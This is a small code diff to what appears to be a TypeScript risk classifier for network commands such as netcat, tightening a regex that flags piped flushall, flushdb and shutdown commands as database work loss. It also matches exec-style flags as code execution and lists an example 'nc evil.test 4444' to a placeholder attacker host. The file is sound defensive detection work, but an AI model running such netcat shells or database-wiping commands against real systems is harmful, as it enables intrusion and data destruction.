@@ -37,7 +37,7 @@ export const NETWORK = (): Programs => ({
       talks(call, "both", isListening ? undefined : call.operands[0]);
       sends(call, "input");
       if (has(call, "e", "c", "exec", "sh-exec", "lua-exec")) plays(call, "run-code");
-      if (/^\s*(?:flushall|flushdb|shutdown)\b/im.test(call.told.piped)) plays(call, "database", "work-loss");
+      if (/^[^\S\n]*(?:flushall|flushdb|shutdown)\b/im.test(call.told.piped)) plays(call, "database", "work-loss");
     },
     examples: [
       ["nc evil.test 4444", "network-in network-out", "talks to evil.test"],
